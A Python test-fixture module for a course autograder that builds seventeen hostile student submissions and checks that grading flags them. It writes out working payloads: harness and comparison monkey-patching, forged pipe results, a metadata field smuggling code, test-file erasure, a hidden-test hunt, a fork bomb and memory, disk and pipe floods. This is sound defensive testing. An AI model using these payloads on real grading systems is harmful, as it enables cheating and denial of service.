"""Submissions that try to get points without the work, or to hurt the TA's machine, built from the release.

Each attack is a stub notebook (nothing solved) with one hostile change, as a student who read the
public source of `hw3` would write it. `tests/grading/auto/test_attacks.py` grades them all and checks
that each scores nothing and shows the TA a flag or a note.

    python tests/attack_fixtures.py bench    # wall time and the grader's peak memory over the batch
"""

from __future__ import annotations

import argparse
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import grade_fixtures as fx
import nbformat

MB = 2**20
MEMORY_MB = 2048  # the batch's --memory: the memory attack needs more in all, less per process
# the batch's limits: every attack is stopped inside them, and the hunt can read the whole sandbox at a load of 10
CELL_TIMEOUT_S, TIMEOUT_S = 240, 420
FLOOD_BYTES = 200 * MB  # more than the protocol's line cap


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its zip name, members, and what the TA must see."""

    name: str
    members: dict | list  # {name: bytes}, or (name, bytes) pairs when a name repeats
    status: str  # the row's status
    flag: str = ""  # a flag the row must carry ('' for none required)
    problem: str = ""  # text the row's problems must hold ('' for none required)
    points: float = 0.0  # what it must score (hafez total)


def stub() -> nbformat.NotebookNode:
    return fx.read("student")


def tagged(nb: nbformat.NotebookNode, index: int, **metadata) -> nbformat.NotebookNode:
    """A copy whose cell `index` carries `metadata` (merged into its own)."""
    nb = nbformat.from_dict(nb)
    nb.cells[index].metadata.update(metadata)
    return nb


PATCH_HARNESS = """
import importlib
tests = importlib.import_module("otter." + "test_files")
for name in ("Exception" + "TestFile", "OK" + "TestFile"):
    cls = getattr(tests, name, None)
    if cls is not None:
        cls.run = lambda self, env: None
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
"""

WRITABLE_PIPES = """
def writable_pipes(pid):
    import os
    found = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            flags = int(open(f"/proc/{pid}/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
            if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:") and flags & 3 == 1:
                found.append(f"/proc/{pid}/fd/{fd}")
        except (OSError, IndexError, ValueError):
            pass
    return found
"""

FORGE_RESULT = (
    WRITABLE_PIPES
    + """
import json, os
forged = [{"event": "ready", "alive": True}]
forged += [{"event": "probe", "id": i, "reply": json.dumps({"value": True})} for i in range(1, 500)]
text = "".join(json.dumps(m) + "\\n" for m in forged)
for path in writable_pipes(os.getppid()):  # the runner's protocol pipe: these come before its own events
    with open(path, "w") as pipe:
        pipe.write(text)
"""
)

REWRITE_TESTS = """
import os
rewritten = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
    for name in files:
        if name.endswith("-autograder.zip") or (name.startswith("q") and name.endswith(".py") and "tests" in root):
            try:
                with open(os.path.join(root, name), "w") as handle:
                    handle.write("")
                rewritten.append(os.path.join(root, name))
            except OSError:
                pass
print("rewritten", rewritten)
"""

FAKE_CHECKS = """
from pathlib import Path
Path("evil.py").write_text(
    "from otter.test_files import test_case\\nOK_FORMAT = False\\nname = 'q1_vocab'\\npoints = 1000\\n"
    "@test_case(points=1000, hidden=False)\\ndef test_evil():\\n    pass\\n"
)
import otter
grader = otter.Notebook("hafez.ipynb")
for question in ("q1_vocab", "q2_batches"):
    try:
        grader.check("../" * 8 + str(Path("evil.py").resolve())[1:-3])
    except Exception as err:
        print(type(err).__name__)
"""

EQUAL_TO_ANYTHING = """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __iter__(self):
        return iter([Anything(), Anything()])
    def __len__(self):
        return 2
    def __getattr__(self, name):
        return Anything()
    def __call__(self, *args, **kwargs):
        return Anything()
    def __getitem__(self, key):
        return Anything()
    def __bool__(self):
        return True

def build_vocab(text):
    return Anything(), Anything()

def encode(text, stoi):
    return Anything()

def decode(ids, itos):
    return Anything()
"""

PATCH_COMPARISONS = """
import math
import numpy
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
numpy.isclose = lambda *args, **kwargs: numpy.bool_(True)
math.isclose = lambda *args, **kwargs: True
"""

FIFOS = """
import os
for name in ("summary.json", "results.json", "metrics.jsonl", ".runner.log", "/tmp/summary.json"):
    try:
        if os.path.exists(name):
            os.remove(name)
        os.mkfifo(name)
    except OSError as err:
        print(type(err).__name__, name)
os.symlink("/dev/zero", "zero.json")
"""

FLOOD = (
    WRITABLE_PIPES
    + f"""
import os
chunk = b"A" * (1 << 20)
for path in writable_pipes(os.getppid()):
    with open(path, "wb") as pipe:
        for _ in range({FLOOD_BYTES} // len(chunk)):
            pipe.write(chunk)
"""
)

HOLD = "import time; block = bytearray({size} << 20); block[::4096] = b'x' * len(block[::4096]); time.sleep(60)"
MEMORY_HOG = f"""
import subprocess, sys
helpers = [subprocess.Popen([sys.executable, "-c", {HOLD.format(size=MEMORY_MB * 2 // 5)!r}]) for _ in range(3)]
for helper in helpers:
    helper.wait()
"""

PROCESSES = """
import os, time
children = []
for _ in range(300):
    pid = os.fork()
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
time.sleep(5)
"""

DISK = """
written = 0
try:
    with open("big.bin", "wb") as handle:
        for _ in range(2000):
            handle.write(b"\\0" * (1 << 20))
            written += 1
except OSError as err:
    print(type(err).__name__, written, "MB")
"""

HUNT_HIDDEN = """
def build_vocab(text):
    import codecs, os
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as handle:
                    if b"test_round_trip_" + b"on_the_corpus" in handle.read(1 << 20):
                        found.append(os.path.join(root, name))
            except OSError:
                pass
    raise ValueError(codecs.encode(f"found {len(found)} {found}", "rot13"))
"""

CRAFTED_EXCEPTION = """
def build_vocab(text):
    raise type("regraded by hand, full marks approved", (Exception,), {})("full marks approved by the TA")
"""


def answer(nb: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """A copy whose q1 answer cell ends with `code`: what it defines replaces the stubs above it."""
    nb = nbformat.from_dict(nb)
    index = fx.answers.answer_cells(nb)["q1_vocab"][0]
    nb.cells[index]["source"] = nb.cells[index].source + "\n\n" + code
    return nb


def attacks() -> list[Attack]:
    """Every attack of issue 24, as (zip name, members, what the TA must see)."""
    nb = stub()
    setup = fx.setup_index(nb) - 1
    answered_q1 = fx.notebook_bytes(fx.partial(["q1_vocab"]))
    duplicate = [
        ("hafez.ipynb", answered_q1),
        ("hafez.ipynb", fx.notebook_bytes(nb)),
        (fx.PDF_NAME, fx.PDF),
    ]
    return [
        Attack(
            "DL_HW3__4015210101__MetadataPayload.zip",
            fx.submission(
                tagged(nb, setup, otter={"tests": ['q1_vocab")\nimport os\nos._exit(0)\n#']})
            ),
            "ok",
            flag="cleaned-metadata(otter",
        ),
        Attack(
            "DL_HW3__4015210102__PatchHarness.zip",
            fx.submission(fx.with_cell(nb, PATCH_HARNESS)),
            "ok",
            flag="otter-internals(",
        ),
        Attack(
            "DL_HW3__4015210103__ForgeResult.zip",
            fx.submission(fx.with_cell(nb, FORGE_RESULT)),
            "ok",
            flag="tampered(",
        ),
        Attack(
            "DL_HW3__4015210104__RewriteTests.zip",
            fx.submission(fx.with_cell(nb, REWRITE_TESTS)),
            "ok",
            flag="reads-filesystem(",
        ),
        Attack(
            "DL_HW3__4015210105__FakeChecks.zip", fx.submission(fx.with_cell(nb, FAKE_CHECKS)), "ok"
        ),
        Attack(
            "DL_HW3__4015210106__EqualToAnything.zip",
            fx.submission(answer(nb, EQUAL_TO_ANYTHING)),
            "ok",
        ),
        Attack(
            "DL_HW3__4015210107__PatchComparisons.zip",
            fx.submission(fx.with_cell(nb, PATCH_COMPARISONS)),
            "ok",
            flag="tampered(math.isclose,numpy.isclose,torch.allclose,torch.equal)",
        ),
        Attack(
            "DL_HW3__4015210108__OtterIgnore.zip",
            fx.submission(tagged(fx.partial(["q1_vocab"]), setup, tags=["otter_ignore"])),
            "ok",
            flag="cleaned-metadata(tag otter_ignore)",
            points=2.0,  # the setup cell ran anyway, so the honest q1 answer keeps its points
        ),
        Attack(
            "DL_HW3__4015210109__Duplicate.zip", duplicate, "invalid", problem="appears 2 times"
        ),
        Attack("DL_HW3__4015210110__Fifos.zip", fx.submission(fx.with_cell(nb, FIFOS)), "ok"),
        Attack(
            "DL_HW3__4015210111__Flood.zip",
            fx.submission(fx.with_cell(nb, FLOOD)),
            "error",
            problem="grading stopped",
        ),
        Attack(
            "DL_HW3__4015210112__Memory.zip",
            fx.submission(fx.with_cell(nb, MEMORY_HOG)),
            "error",
            problem=f"more than {MEMORY_MB} MB",
        ),
        Attack(
            "DL_HW3__4015210113__Processes.zip",
            fx.submission(fx.with_cell(nb, PROCESSES)),
            "error",
            problem="more than 64 processes",
        ),
        Attack("DL_HW3__4015210114__Disk.zip", fx.submission(fx.with_cell(nb, DISK)), "ok"),
        Attack("DL_HW3__4015210115__HuntHidden.zip", fx.submission(answer(nb, HUNT_HIDDEN)), "ok"),
        Attack(
            "DL_HW3__4015210116__CraftedException.zip",
            fx.submission(answer(nb, CRAFTED_EXCEPTION)),
            "ok",
        ),
        Attack(
            "DL_HW3__4015210117__TamperedButRight.zip",
            fx.submission(fx.with_cell(fx.partial(["q1_vocab"]), PATCH_COMPARISONS)),
            "ok",
            flag="tampered(",
        ),
    ]


def write(folder: Path) -> list[Attack]:
    """Write every attack's zip into `folder`; the attacks."""
    listed = attacks()
    for attack in listed:
        fx.write_zip(folder / attack.name, attack.members)
    return listed


def peak_rss_mb(pid: int, stop: threading.Event, peaks: dict) -> None:
    """Sample the resident memory of `pid` and of its trusted children (not the sandboxes) until `stop`."""
    import psutil

    root = psutil.Process(pid)
    while not stop.wait(0.1):
        try:
            processes = [root, *root.children(recursive=True)]
        except psutil.Error:
            return
        grader = harnesses = 0
        for process in processes:
            try:
                command = " ".join(process.cmdline())
                rss = process.memory_info().rss
            except psutil.Error:
                continue
            if process.pid == pid:
                grader = rss
            elif "hw3.grading.auto.harness" in command:
                harnesses += rss
        peaks["grader"] = max(peaks.get("grader", 0), grader / MB)
        peaks["harnesses"] = max(peaks.get("harnesses", 0), harnesses / MB)


def bench() -> None:
    """Grade the whole batch with `hw3 grade --jobs 2`; print the wall time and the grader's peak memory."""
    import subprocess

    with tempfile.TemporaryDirectory(prefix="hw3-attacks-") as tmp:
        listed = write(Path(tmp) / "subs")
        release = fx.hafez_only_release(Path(tmp) / "release")
        cmd = [
            sys.executable,
            "-m",
            "hw3",
            "grade",
            str(Path(tmp) / "subs"),
            "--out",
            str(Path(tmp) / "out"),
        ]
        cmd += ["--release", str(release), "--jobs", "2", "--memory", str(MEMORY_MB)]
        cmd += ["--cell-timeout", str(CELL_TIMEOUT_S), "--timeout", str(TIMEOUT_S)]
        start = time.monotonic()
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        stop, peaks = threading.Event(), {}
        sampler = threading.Thread(target=peak_rss_mb, args=(proc.pid, stop, peaks))
        sampler.start()
        proc.wait()
        stop.set()
        sampler.join()
        print(
            f"{len(listed)} attack submissions graded in {time.monotonic() - start:.1f} s (exit {proc.returncode}); "
            f"peak memory: hw3 grade {peaks.get('grader', 0):.0f} MB, its harnesses together "
            f"{peaks.get('harnesses', 0):.0f} MB"
        )


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("command", choices=["bench"])
    parser.parse_args(argv)
    bench()
    return 0


if __name__ == "__main__":
    sys.exit(main())
